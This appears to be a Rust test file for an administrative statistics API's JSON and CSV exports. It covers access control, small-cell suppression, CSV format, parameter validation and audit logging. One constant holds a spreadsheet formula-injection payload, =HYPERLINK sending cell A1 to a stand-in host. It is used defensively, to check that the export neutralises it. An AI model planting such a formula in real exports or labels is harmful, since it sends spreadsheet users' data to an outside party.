//! The statistics routes over real actix services and in-memory fakes: who
//! may ask (401, 403 and its two codes), the JSON report's shape, the
//! small-cell rule in JSON and in CSV (a cell of 9 people has no number),
//! the CSV file read back by the `csv` crate as RFC 4180 (header, CRLF,
//! quoting), a category label that is a spreadsheet formula neutralised, and
//! every bad parameter as a problem naming it.

#![allow(clippy::unwrap_used, clippy::expect_used)] // a test that cannot unwrap should fail loudly

#[allow(dead_code, reason = "each test binary uses some of the helpers")]
mod support;

use actix_web::http::StatusCode;
use actix_web::http::header;
use actix_web::test::TestRequest;
use rr_application::test_util::StatisticsEvent;
use rr_domain::identity::{Role, UserId};
use rr_domain::statistics::Measure;
use serde_json::{Value, json};
use support::{
    CATEGORY, OTHER_CATEGORY, RELATION, Reference, World, account, category, fetch, reference_id,
    relation_type, token,
};
use time::macros::datetime;

/// A category whose label a spreadsheet would run as a formula.
const FORMULA: &str = "=HYPERLINK(\"http://pirate.example/?d=\"&A1,\"Cliquez, ici\")";

fn world() -> World {
    World {
        reference: Reference {
            categories: vec![
                category(CATEGORY, "parentalite", "Parentalité"),
                category(OTHER_CATEGORY, "piege", FORMULA),
            ],
            relation_types: vec![relation_type(RELATION, "famille", "@Famille")],
            ..Reference::standard()
        }
        .store(),
        ..World::new()
    }
}

/// `n` citizens (`<prefix>0`, `<prefix>1`, …); their ids.
async fn citizens(world: &World, prefix: &str, n: usize) -> Vec<UserId> {
    let mut ids = Vec::new();
    for i in 0..n {
        let (id, _) = account(&world.fx, &format!("{prefix}{i}"), Role::Citizen, false).await;
        ids.push(id);
    }
    ids
}

/// Nine favourites in October 2026 and ten (by ten people, one of whom
/// favours twice) in November, all in [`OTHER_CATEGORY`] with [`RELATION`];
/// and four visitors' consultations in November.
async fn nine_and_ten(world: &World) {
    let favourite = |person, at| StatisticsEvent {
        category: Some(reference_id(OTHER_CATEGORY)),
        relation_types: vec![reference_id(RELATION)],
        ..StatisticsEvent::new(Measure::Favourites, at, Some(person))
    };
    for person in citizens(world, "octobre", 9).await {
        world
            .statistics_events
            .record(favourite(person, datetime!(2026-10-14 08:00 UTC)));
    }
    let november = citizens(world, "novembre", 10).await;
    for person in &november {
        world
            .statistics_events
            .record(favourite(*person, datetime!(2026-11-03 20:00 UTC)));
    }
    world
        .statistics_events
        .record(favourite(november[0], datetime!(2026-11-30 23:59 UTC)));
    for _ in 0..4 {
        world.statistics_events.record(StatisticsEvent::new(
            Measure::Consultations,
            datetime!(2026-11-03 20:00 UTC),
            None,
        ));
    }
}

async fn admin(world: &World) -> String {
    account(&world.fx, "administratrice", Role::Administrator, true)
        .await
        .1
}

const AUTUMN: &str = "/api/v1/admin/statistics?from=2026-10-01&to=2026-12-01";

fn get(uri: &str) -> TestRequest {
    TestRequest::get().uri(uri)
}

fn row<'a>(report: &'a Value, bucket: &str, measure: &str) -> &'a Value {
    report["rows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["bucket"] == bucket && r["measure"] == measure)
        .unwrap_or_else(|| panic!("no row {bucket} {measure} in {report}"))
}

#[actix_web::test]
async fn only_administrators_with_two_factor_authentication_get_statistics() {
    let world = world();
    let app = world.app().await;
    let citizen = token(&app, &world.fx, "lea").await;
    let (_, moderator) = account(&world.fx, "moderatrice", Role::Moderator, true).await;
    let (_, unprotected) = account(&world.fx, "admin2", Role::Administrator, false).await;
    let (_, superadmin) = account(&world.fx, "superadmin", Role::SuperAdministrator, true).await;

    for uri in [
        AUTUMN.to_owned(),
        AUTUMN.replace("statistics?", "statistics.csv?"),
    ] {
        assert!(
            fetch(&app, get(&uri), None)
                .await
                .is_problem(StatusCode::UNAUTHORIZED, "unauthenticated"),
            "{uri}"
        );
        for (who, code) in [
            (&citizen, "forbidden"),
            (&moderator, "forbidden"),
            (&unprotected, "two_factor_required"),
        ] {
            let answer = fetch(&app, get(&uri), Some(who)).await;
            assert!(
                answer.is_problem(StatusCode::FORBIDDEN, code),
                "{uri} {code}"
            );
        }
        assert_eq!(
            fetch(&app, get(&uri), Some(&superadmin)).await.status,
            StatusCode::OK
        );
    }
}

#[actix_web::test]
async fn a_cell_of_nine_people_shows_no_number_and_a_cell_of_ten_does() {
    let world = world();
    nine_and_ten(&world).await;
    let app = world.app().await;
    let admin = admin(&world).await;

    let answer = fetch(
        &app,
        get(&format!(
            "{AUTUMN}&measures=favourites,consultations&groupBy=month"
        )),
        Some(&admin),
    )
    .await;

    assert_eq!(answer.status, StatusCode::OK);
    assert_eq!(answer.content_type(), "application/json");
    let report = answer.json();
    assert_eq!(report["from"], "2026-10-01");
    assert_eq!(report["to"], "2026-12-01");
    assert_eq!(report["groupBy"], "month");
    assert_eq!(report["minCellPeople"], 10);
    assert_eq!(report["measures"], json!(["consultations", "favourites"]));
    assert_eq!(
        row(&report, "2026-10-01", "favourites"),
        &json!({"bucket": "2026-10-01", "measure": "favourites", "count": null, "people": null,
                "visitorCount": null, "suppressed": true})
    );
    assert_eq!(
        row(&report, "2026-11-01", "favourites"),
        &json!({"bucket": "2026-11-01", "measure": "favourites", "count": 11, "people": 10,
                "visitorCount": null, "suppressed": false})
    );
    assert_eq!(
        row(&report, "2026-11-01", "consultations"),
        &json!({"bucket": "2026-11-01", "measure": "consultations", "count": 0, "people": 0,
                "visitorCount": 4, "suppressed": false})
    );
    assert_eq!(report["rows"].as_array().unwrap().len(), 4);
}

#[actix_web::test]
async fn filters_come_back_by_name_and_the_report_holds_no_other_text() {
    let world = world();
    nine_and_ten(&world).await;
    let app = world.app().await;
    let admin = admin(&world).await;
    let uri = format!(
        "{AUTUMN}&groupBy=week&category={}&relationType={}&region=53",
        reference_id(OTHER_CATEGORY).as_uuid(),
        reference_id(RELATION).as_uuid()
    );

    let report = fetch(&app, get(&uri), Some(&admin)).await.json();

    assert_eq!(
        report["filters"],
        json!({
            "category": {"id": reference_id(OTHER_CATEGORY).as_uuid(), "slug": "piege", "label": FORMULA},
            "resourceType": null,
            "relationType": {"id": reference_id(RELATION).as_uuid(), "slug": "famille", "label": "@Famille"},
            "region": {"code": "53", "name": "Bretagne"},
        })
    );
    // Registrations and searches take neither a category nor a relation type.
    assert_eq!(
        report["measures"],
        json!(["consultations", "exploitations", "favourites", "creations"])
    );
    assert_eq!(report["from"], "2026-09-28", "widened to the Monday");
    for row in report["rows"].as_array().unwrap() {
        let keys: Vec<&str> = row
            .as_object()
            .unwrap()
            .keys()
            .map(String::as_str)
            .collect();
        assert_eq!(
            keys,
            [
                "bucket",
                "count",
                "measure",
                "people",
                "suppressed",
                "visitorCount"
            ]
        );
        assert!(row["bucket"].as_str().unwrap().len() == 10);
        assert!(row["count"].is_u64() || row["count"].is_null());
        assert!(row["people"].is_u64() || row["people"].is_null());
        assert!(
            row["visitorCount"].is_null(),
            "a region leaves visitors out"
        );
    }
}

#[actix_web::test]
async fn the_csv_export_is_rfc_4180_and_applies_the_same_rule() {
    let world = world();
    nine_and_ten(&world).await;
    let app = world.app().await;
    let admin = admin(&world).await;

    let answer = fetch(
        &app,
        get("/api/v1/admin/statistics.csv?from=2026-10-01&to=2026-12-01&measures=favourites"),
        Some(&admin),
    )
    .await;

    assert_eq!(answer.status, StatusCode::OK);
    assert_eq!(answer.content_type(), "text/csv; charset=utf-8");
    assert_eq!(
        answer.header(header::CONTENT_DISPOSITION),
        "attachment; filename=\"statistiques_2026-10-01_2026-12-01_month.csv\""
    );
    let text = std::str::from_utf8(&answer.body).unwrap();
    assert_eq!(
        text,
        "bucket,measure,category,resource_type,relation_type,region,count,people,visitor_count,suppressed\r\n\
         2026-10-01,favourites,,,,,,,,true\r\n\
         2026-11-01,favourites,,,,,11,10,,false\r\n"
    );
    let mut reader = csv::ReaderBuilder::new().from_reader(answer.body.as_slice());
    assert_eq!(
        reader.headers().unwrap(),
        vec![
            "bucket",
            "measure",
            "category",
            "resource_type",
            "relation_type",
            "region",
            "count",
            "people",
            "visitor_count",
            "suppressed"
        ]
    );
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 2);
    assert_eq!(&records[0][6], "", "9 people: no count");
    assert_eq!(&records[0][7], "", "9 people: no people");
    assert_eq!(&records[0][9], "true");
    assert_eq!(&records[1][6], "11");
}

#[actix_web::test]
async fn a_label_written_as_a_formula_reaches_the_spreadsheet_as_text() {
    let world = world();
    nine_and_ten(&world).await;
    let app = world.app().await;
    let admin = admin(&world).await;
    let uri = format!(
        "/api/v1/admin/statistics.csv?from=2026-11-01&to=2026-12-01&measures=favourites\
         &category={}&relationType={}",
        reference_id(OTHER_CATEGORY).as_uuid(),
        reference_id(RELATION).as_uuid()
    );

    let answer = fetch(&app, get(&uri), Some(&admin)).await;

    assert_eq!(answer.status, StatusCode::OK);
    let text = std::str::from_utf8(&answer.body).unwrap();
    // Quoted (it holds commas and quotes, doubled) and prefixed with '.
    assert!(
        text.contains("\"'=HYPERLINK(\"\"http://pirate.example/?d=\"\"&A1,\"\"Cliquez, ici\"\")\""),
        "{text}"
    );
    let records: Vec<csv::StringRecord> = csv::Reader::from_reader(answer.body.as_slice())
        .records()
        .map(Result::unwrap)
        .collect();
    assert_eq!(records.len(), 1);
    assert_eq!(&records[0][2], format!("'{FORMULA}"));
    assert_eq!(&records[0][4], "'@Famille");
    for record in &records {
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run in a spreadsheet"
            );
        }
    }
    assert_eq!(&records[0][6], "11");
}

#[actix_web::test]
async fn every_bad_parameter_is_a_problem_that_names_it() {
    let world = world();
    let app = world.app().await;
    let admin = admin(&world).await;
    let base = "/api/v1/admin/statistics?";
    let unreadable = [
        ("to=2026-12-01", "from"),
        ("from=2026-10-01", "to"),
        ("from=01/10/2026&to=2026-12-01", "from"),
        ("from=2026-10-01&to=2026-13-01", "to"),
        ("from=2026-10-01&to=2026-12-01&groupBy=year", "groupBy"),
        ("from=2026-10-01&to=2026-12-01&measures=views", "measures"),
        ("from=2026-10-01&to=2026-12-01&measures=", "measures"),
        ("from=2026-10-01&to=2026-12-01&category=famille", "category"),
        (
            "from=2026-10-01&to=2026-12-01&resourceType=1",
            "resourceType",
        ),
        (
            "from=2026-10-01&to=2026-12-01&relationType=x",
            "relationType",
        ),
        ("from=2026-10-01&to=2026-12-01&region=FR-BRE", "region"),
    ];
    for (query, parameter) in unreadable {
        let answer = fetch(&app, get(&format!("{base}{query}")), Some(&admin)).await;
        assert!(
            answer.is_problem(StatusCode::BAD_REQUEST, "invalid_query"),
            "{query}: {}",
            answer.json()
        );
        assert!(
            answer.json()["detail"]
                .as_str()
                .unwrap()
                .contains(&format!("`{parameter}`")),
            "{query}"
        );
    }
    let unknown = fetch(
        &app,
        get(&format!("{base}from=2026-10-01&to=2026-12-01&user=lea")),
        Some(&admin),
    )
    .await;
    assert!(unknown.is_problem(StatusCode::BAD_REQUEST, "invalid_query"));

    let broken = [
        ("from=2026-12-01&to=2026-10-01", "to", "period_reversed"),
        ("from=2026-10-01&to=2026-10-01", "to", "period_reversed"),
        ("from=2023-10-01&to=2026-12-01", "to", "period_too_long"),
        (
            "from=2026-10-01&to=2026-12-01&category=01a22499-f800-7101-8000-000000000000",
            "category",
            "unknown_category",
        ),
        (
            "from=2026-10-01&to=2026-12-01&measures=searches&relationType=00000000-0000-0000-0000-000000000003",
            "relationType",
            "filter_not_applicable",
        ),
        (
            "from=2026-10-01&to=2026-12-01&measures=registrations&category=00000000-0000-0000-0000-000000000001",
            "category",
            "filter_not_applicable",
        ),
    ];
    for (query, field, code) in broken {
        for path in ["statistics", "statistics.csv"] {
            let uri = format!("/api/v1/admin/{path}?{query}");
            let answer = fetch(&app, get(&uri), Some(&admin)).await;
            assert!(
                answer.is_problem(StatusCode::UNPROCESSABLE_ENTITY, "validation_failed"),
                "{uri}: {}",
                answer.json()
            );
            assert_eq!(answer.json()["errors"][0]["field"], field, "{uri}");
            assert_eq!(answer.json()["errors"][0]["code"], code, "{uri}");
        }
    }
}

#[actix_web::test]
async fn every_query_is_in_the_audit_log() {
    let world = world();
    let app = world.app().await;
    let admin = admin(&world).await;
    fetch(
        &app,
        get(&format!("{AUTUMN}&measures=creations")),
        Some(&admin),
    )
    .await;
    fetch(
        &app,
        get("/api/v1/admin/statistics.csv?from=2026-10-01&to=2026-12-01&region=11"),
        Some(&admin),
    )
    .await;
    let details: Vec<String> = world
        .fx
        .audit
        .entries()
        .into_iter()
        .filter(|e| e.event.action == "statistics_queried")
        .map(|e| e.event.detail)
        .collect();
    assert_eq!(
        details,
        [
            "measures=creations from=2026-10-01 to=2026-12-01 group_by=month",
            "measures=consultations,searches,exploitations,favourites,creations,registrations \
             from=2026-10-01 to=2026-12-01 group_by=month region=11",
        ]
    );
}
